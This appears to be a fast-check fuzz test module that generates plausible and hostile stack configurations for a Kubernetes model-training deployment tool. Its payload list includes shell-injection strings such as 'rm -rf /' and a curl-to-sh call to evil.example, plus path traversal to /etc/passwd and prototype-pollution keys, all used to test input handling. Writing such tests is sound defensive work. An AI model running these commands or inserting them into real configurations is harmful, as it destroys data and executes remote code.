import fc from "fast-check";
import { stackInputSchema } from "../../components/config/stack";
import { BUILT_IN_RUNTIMES } from "../../components/schema/runtimes";
import { OPERATOR_V1_BUNDLE, TRAINER_V2_BUNDLE, TRAINER_V2_RUNTIMES } from "../../harness/paths";
import { schemaKeyPaths } from "./keyPaths";

const PAYLOADS = [
  "'; rm -rf / #",
  "$(curl http://evil.example | sh)",
  "`id`",
  "quote \" and ' both",
  "line1\nline2\r\n",
  "nul\u0000byte",
  "x".repeat(5000),
  "__proto__",
  "constructor",
  "Ünïcödé ✓ 🔥 名前",
  "--flag=$HOME && echo",
  "\\\\server\\share",
  "%s%n%x",
  "../../etc/passwd",
  "{{ .Values.secret }}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal shell expansion is the payload
  "${HOME}",
  "",
  " ",
];

/** Strings an attacker or a careless hand might put anywhere. */
export const hostileString = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...PAYLOADS) },
  { weight: 2, arbitrary: fc.string({ maxLength: 30 }) },
  { weight: 1, arbitrary: fc.string({ unit: "grapheme", maxLength: 12 }) },
);

/** Any JSON value of a wrong or extreme kind. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  hostileString,
  fc.constantFrom(-1, 0, 1.5, 1e308, -1e308, Number.MAX_SAFE_INTEGER, 2 ** 53 + 1, true, false, null),
  fc.integer(),
  fc.array(hostileString, { maxLength: 3 }),
  fc.dictionary(hostileString, hostileString, { maxKeys: 3 }),
);

/** Values of the secret keys in the shapes their checks take. */
export const SECRET_VALUES: Readonly<Record<string, string>> = {
  hfToken: "hf_fuzz",
  s3AccessKeyId: "AKIAFUZZ",
  s3SecretAccessKey: "fuzz-secret",
  imagePullSecrets: '{"auths":{"registry.example.com":{"auth":"Zm9vOmJhcg=="}}}',
  kubeconfig: "apiVersion: v1\nkind: Config\nclusters: []\ncontexts: []\nusers: []\n",
};

/** `undefined` or the value: an optional key. */
const maybe = <T>(a: fc.Arbitrary<T>) => fc.option(a, { nil: undefined, freq: 2 });

/** An object without its undefined keys (what a stack file would hold). */
const defined = (o: Record<string, unknown>) =>
  Object.fromEntries(Object.entries(o).filter(([, v]) => v !== undefined));

const SOURCES = {
  model: [undefined, "hf://ibm-granite/granite-3.1-8b-base@main", "s3://models/granite", "pvc://shared/models"],
  dataset: [undefined, "hf://datasets/org/data", "s3://data/run-1", "pvc://shared/data"],
};

const volume = (role: "model" | "dataset") =>
  fc
    .record({
      source: fc.constantFrom(...SOURCES[role]),
      size: fc.constantFrom("1Gi", "100Gi"),
      accessMode: fc.constantFrom(undefined, "ReadWriteMany", "ReadWriteOnce"),
      storageClass: maybe(fc.constantFrom("fast", "nfs")),
      restage: maybe(hostileString),
      endpoint: maybe(fc.constantFrom("https://minio.example.com:9000")),
      region: maybe(fc.constantFrom("us-east-1")),
      existingClaim: maybe(fc.constantFrom("shared-data")),
    })
    .map((v) => {
      if (v.existingClaim !== undefined && v.source === undefined) return { existingClaim: v.existingClaim };
      if (v.source?.startsWith("pvc://")) return { source: v.source };
      const s3 = v.source?.startsWith("s3://");
      return defined({
        ...v,
        existingClaim: undefined,
        endpoint: s3 ? v.endpoint : undefined,
        region: s3 ? v.region : undefined,
        restage: v.source !== undefined ? v.restage : undefined,
      });
    });

const trainer = fc.oneof(
  fc.record({
    type: fc.constant("command"),
    command: fc.array(hostileString, { maxLength: 5 }).map((a) => ["python", ...a]),
  }),
  fc
    .record({
      type: fc.constant("instructlab"),
      epochs: fc.integer({ min: 1, max: 5 }),
      learningRate: fc.constantFrom(1e-5, 2e-4),
      effectiveBatchSize: maybe(fc.integer({ min: 1, max: 512 })),
      maxSeqLen: maybe(fc.integer({ min: 1, max: 8192 })),
      maxBatchLen: maybe(fc.integer({ min: 1, max: 100_000 })),
      warmupSteps: maybe(fc.integer({ min: 0, max: 100 })),
      saveSamples: maybe(fc.integer({ min: 0, max: 1000 })),
      checkpointAtEpoch: maybe(fc.boolean()),
      onDemandCheckpointing: maybe(fc.boolean()),
      seed: maybe(fc.integer({ min: 0, max: 2 ** 32 - 1 })),
      distributedBackend: maybe(fc.constantFrom("fsdp", "deepspeed")),
      isGranite: maybe(fc.boolean()),
      processData: maybe(fc.boolean()),
      dataFile: maybe(fc.constantFrom("data.jsonl", "sub/dir/train.jsonl")),
      lora: maybe(
        fc.record({
          rank: fc.integer({ min: 1, max: 64 }),
          alpha: maybe(fc.integer({ min: 1, max: 64 })),
          dropout: maybe(fc.constantFrom(0, 0.05)),
          targetModules: maybe(fc.constantFrom(["q_proj", "v_proj"])),
        }),
      ),
      extraArgs: fc.array(hostileString, { maxLength: 3 }),
    })
    .map(defined),
);

/** A pod affinity term that sets every key (`topologyKey` on a zone or a node). */
const podAffinityTerm = (topology: "zone" | "hostname") => ({
  labelSelector: {
    matchLabels: { team: "a" },
    matchExpressions: [
      { key: "tier", operator: "Exists" },
      { key: "stage", operator: "In", values: ["train"] },
    ],
  },
  namespaceSelector: {
    matchLabels: { "kubernetes.io/metadata.name": "ml" },
    matchExpressions: [{ key: "team", operator: "NotIn", values: ["b"] }],
  },
  namespaces: ["ml"],
  topologyKey: topology === "zone" ? "topology.kubernetes.io/zone" : "kubernetes.io/hostname",
  matchLabelKeys: ["finetune/run"],
  mismatchLabelKeys: ["tenant"],
});

/** A pod affinity (or anti-affinity) with every key. */
const podAffinity = (topology: "zone" | "hostname") => ({
  requiredDuringSchedulingIgnoredDuringExecution: [podAffinityTerm(topology)],
  preferredDuringSchedulingIgnoredDuringExecution: [{ weight: 100, podAffinityTerm: podAffinityTerm(topology) }],
});

/** Scheduling keys: a TrainJob's runtimePatches take nodeSelector, tolerations and affinity only. */
const scheduling = (generation: 1 | 2) =>
  fc
    .record({
      nodeSelector: maybe(fc.constant({ "nvidia.com/gpu.product": "H100" })),
      tolerations: maybe(
        fc.constant([
          { key: "nvidia.com/gpu", operator: "Equal", value: "x", effect: "NoSchedule", tolerationSeconds: 60 },
        ]),
      ),
      affinity: maybe(
        fc.constantFrom(
          {
            nodeAffinity: { preferredDuringSchedulingIgnoredDuringExecution: [] },
            podAffinity: { preferredDuringSchedulingIgnoredDuringExecution: [] },
            podAntiAffinity: { preferredDuringSchedulingIgnoredDuringExecution: [] },
          },
          {
            nodeAffinity: {
              requiredDuringSchedulingIgnoredDuringExecution: {
                nodeSelectorTerms: [
                  {
                    matchExpressions: [{ key: "nvidia.com/gpu.memory", operator: "Gt", values: ["40000"] }],
                    matchFields: [{ key: "metadata.name", operator: "NotIn", values: ["node-1"] }],
                  },
                ],
              },
              preferredDuringSchedulingIgnoredDuringExecution: [
                {
                  weight: 50,
                  preference: {
                    matchExpressions: [{ key: "nvidia.com/gpu.product", operator: "In", values: ["H100", "A100"] }],
                    matchFields: [{ key: "metadata.name", operator: "In", values: ["node-2"] }],
                  },
                },
              ],
            },
            podAffinity: podAffinity("zone"),
            podAntiAffinity: podAffinity("hostname"),
          },
        ),
      ),
      priorityClassName: maybe(fc.constantFrom("high")),
      schedulerName: maybe(fc.constantFrom("volcano")),
      gang: maybe(fc.boolean()),
      queue: maybe(fc.constantFrom("q")),
    })
    .map((s) =>
      generation === 2
        ? defined({ ...s, priorityClassName: undefined, schedulerName: undefined, gang: undefined, queue: undefined })
        : defined({ ...s, queue: s.gang ? s.queue : undefined }),
    );

/** A plausible job of a generation, whose free-text fields carry hostile strings. */
const job = (generation: 1 | 2) =>
  fc
    .record({
      image: fc.constantFrom("quay.io/acme/trainer:1.0", `registry.example.com/t@sha256:${"a".repeat(64)}`, "trainer"),
      nodes: fc.integer({ min: 1, max: 4 }),
      gpusPerNode: fc.integer({ min: 1, max: 8 }),
      gpuResource: fc.constantFrom("nvidia.com/gpu", "amd.com/gpu", "habana.ai/gaudi", "nvidia.com/mig-3g.40gb"),
      resources: maybe(
        fc.record({ cpu: maybe(fc.constantFrom("8", "7500m")), memory: maybe(fc.constantFrom("64Gi")) }).map(defined),
      ),
      shmSize: maybe(fc.constantFrom("1Gi", "16Gi")),
      env: fc.dictionary(fc.constantFrom("NCCL_DEBUG", "MY_VAR", "a.b-c"), hostileString, { maxKeys: 2 }),
      model: maybe(volume("model")),
      dataset: maybe(volume("dataset")),
      output: fc.constantFrom(
        { size: "10Gi" },
        { existingClaim: "ckpt" },
        { size: "1Ti", retain: false },
        { size: "5Gi", protect: true, storageClass: "fast", accessMode: "ReadWriteMany" },
      ),
      trainer,
      rerun: maybe(hostileString),
      labels: maybe(fc.constant({ team: "a" })),
      annotations: fc.dictionary(fc.constantFrom("example.com/note", "ticket"), hostileString, { maxKeys: 2 }),
      wait: fc.constantFrom("none", "running", "succeeded"),
      timeout: maybe(fc.constantFrom("90m", "2h")),
      scheduling: scheduling(generation),
      runPolicy: maybe(
        fc
          .record({
            activeDeadlineSeconds: maybe(fc.integer({ min: 1, max: 86_400 })),
            cleanPodPolicy: maybe(fc.constantFrom("None", "Running", "All")),
            backoffLimit: maybe(fc.integer({ min: 0, max: 5 })),
            ttlSecondsAfterFinished: maybe(fc.constantFrom(0, 3600, null)),
            restartPolicy: maybe(fc.constantFrom("OnFailure", "ExitCode")),
          })
          .map(defined),
      ),
      terminationGracePeriodSeconds: maybe(fc.constantFrom(0, 300, 86_400)),
      securityContext: maybe(
        fc.constantFrom({ runAsUser: 2000, runAsGroup: 2000, fsGroup: 2000 }, { runAsUser: 0, runAsNonRoot: false }),
      ),
      queue: maybe(fc.constantFrom("team-a")),
      workloadPriorityClass: maybe(fc.constantFrom("urgent")),
      // Runtimes that exist: the webhook refuses a TrainJob naming another (test/v2Runtimes.test.ts has one).
      runtime: maybe(fc.constantFrom(...Object.keys(BUILT_IN_RUNTIMES))),
      runtimeKind: maybe(fc.constant("ClusterTrainingRuntime")),
    })
    .map((j) => {
      const multiNode = j.nodes > 1;
      const writable = (v: Record<string, unknown> | undefined) =>
        v === undefined || !multiNode || v.accessMode !== "ReadWriteOnce" ? v : { ...v, accessMode: "ReadWriteMany" };
      const instructlab = (j.trainer as { type: string }).type === "instructlab";
      return defined({
        ...j,
        timeout: j.wait === "none" ? undefined : j.timeout,
        model: writable(j.model ?? (instructlab ? { size: "1Gi" } : undefined)),
        dataset: writable(j.dataset ?? (instructlab ? { size: "1Gi" } : undefined)),
        workloadPriorityClass: j.queue !== undefined ? j.workloadPriorityClass : undefined,
        runtime: generation === 2 ? j.runtime : undefined,
        runtimeKind: generation === 2 ? j.runtimeKind : undefined,
        terminationGracePeriodSeconds: generation === 1 ? j.terminationGracePeriodSeconds : undefined,
        runPolicy:
          generation === 2 && j.runPolicy !== undefined
            ? defined({ activeDeadlineSeconds: j.runPolicy.activeDeadlineSeconds })
            : j.runPolicy,
      });
    });

// Installs from the local bundles are one stack in six: each renders megabytes of upstream CRDs,
// which the mock engine copies through protobuf (most of this test's time), and the fuzz checks
// the program's own objects, not upstream's.
const operator = fc.oneof(
  {
    weight: 4,
    arbitrary: fc.constantFrom(
      { install: false },
      {},
      { version: "v2.3.0", install: false },
      { install: false, workerPodSecurity: "baseline" },
    ),
  },
  {
    weight: 1,
    arbitrary: fc
      .record({
        source: fc.constant(OPERATOR_V1_BUNDLE),
        workerPodSecurity: fc.constant("restricted"),
        images: maybe(
          fc.constant({
            "ghcr.io/kubeflow/training-v1/training-operator": "registry.example.com:5000/kubeflow/training-operator",
            alpine: "registry.example.com:5000/library/alpine",
          }),
        ),
      })
      .map(defined),
  },
  {
    weight: 1,
    arbitrary: fc
      .record({
        version: fc.constant("v2.3.0"),
        source: fc.constant(TRAINER_V2_BUNDLE),
        runtimesSource: fc.constant(TRAINER_V2_RUNTIMES),
        trainJobStatus: fc.boolean(),
        images: maybe(fc.constant({ "registry.k8s.io/jobset/jobset": "registry.example.com/jobset/jobset" })),
      })
      .map(defined),
  },
);

const queues = fc.constant({
  resourceFlavors: { "gpu-nodes": { nodeLabels: { "nvidia.com/gpu.product": "H100" } } },
  clusterQueues: {
    research: {
      cohort: "ml",
      namespaces: ["ml", "team-a"],
      preemption: { withinClusterQueue: "LowerPriority", reclaimWithinCohort: "Never" },
      flavors: { "gpu-nodes": { "nvidia.com/gpu": 16 } },
    },
  },
  localQueues: { "team-a": "research" },
});

/** A plausible stack (its secret keys set to values of the right shape, to be stored as secrets). */
export const validStack = operator.chain((trainingOperator) =>
  fc
    .record({
      namespace: fc.constantFrom("ml", "team-a"),
      createNamespace: maybe(fc.boolean()),
      cluster: maybe(
        fc
          .record({
            context: maybe(fc.constantFrom("gpu-east")),
            skipAwait: maybe(fc.boolean()),
            kubeconfig: maybe(fc.constantFrom("~/.kube/config")),
          })
          .map(defined),
      ),
      trainingOperator: fc.constant(trainingOperator),
      networkPolicy: fc.boolean(),
      queue: maybe(fc.constantFrom("team-a")),
      queues: maybe(queues),
      staging: maybe(
        fc
          .record({
            hfImage: maybe(fc.constantFrom("registry.example.com/hf:1.0")),
            s3Image: maybe(fc.constantFrom(`registry.example.com/aws@sha256:${"b".repeat(64)}`)),
            timeout: maybe(fc.constantFrom("30m", "2h")),
            resources: maybe(
              fc
                .record({
                  cpu: maybe(fc.constantFrom("500m", "2")),
                  memory: maybe(fc.constantFrom("1Gi", "4Gi")),
                  memoryLimit: maybe(fc.constantFrom("4Gi", "16Gi")),
                })
                .map(defined),
            ),
          })
          .map(defined),
      ),
      secrets: fc.subarray(Object.keys(SECRET_VALUES)),
      jobs: fc.dictionary(
        fc.constantFrom("granite", "llama-2", "a"),
        job((trainingOperator as { version?: string }).version === "v2.3.0" ? 2 : 1),
        { minKeys: 1, maxKeys: 2 },
      ),
    })
    .map(({ secrets, ...stack }) => {
      const out: Record<string, unknown> = defined(stack);
      for (const key of secrets) out[key] = SECRET_VALUES[key];
      // One S3 credential alone is refused, and so is the secret kubeconfig beside cluster.kubeconfig.
      if ((out.s3AccessKeyId === undefined) !== (out.s3SecretAccessKey === undefined)) {
        delete out.s3AccessKeyId;
        delete out.s3SecretAccessKey;
      }
      const cluster = out.cluster as Record<string, unknown> | undefined;
      if (out.kubeconfig !== undefined && cluster?.kubeconfig !== undefined) delete out.kubeconfig;
      return out;
    }),
);

/** Every key path of the stack schema. */
export const STACK_KEY_PATHS: readonly string[] = schemaKeyPaths(stackInputSchema() as never);

/** A path of the schema made concrete: `<name>` a name of this stack (or a new one), `[]` index 0. */
function concrete(p: string): (string | number)[] {
  return p
    .replace(/\[\]/g, ".0")
    .split(".")
    .map((s) => (s === "<name>" ? "granite" : /^\d+$/.test(s) ? Number(s) : s));
}

/** A hostile value at any key path of the schema. */
export const pathMutation = fc.record({
  path: fc.constantFrom(...STACK_KEY_PATHS).map(concrete),
  value: hostileValue,
});

/** The stack with `value` at `path`, the maps and lists on the way made as needed. */
export function setAt(
  stack: Record<string, unknown>,
  at: (string | number)[],
  value: unknown,
): Record<string, unknown> {
  const copy = JSON.parse(JSON.stringify(stack)) as Record<string, any>;
  let here: any = copy;
  for (const [i, key] of at.slice(0, -1).entries()) {
    const next = here[key];
    if (typeof next !== "object" || next === null) here[key] = typeof at[i + 1] === "number" ? [] : {};
    here = here[key];
  }
  // Own properties even for "__proto__", as JSON.parse would produce from a stack file.
  Object.defineProperty(here, at[at.length - 1], { value, enumerable: true, writable: true, configurable: true });
  return copy;
}
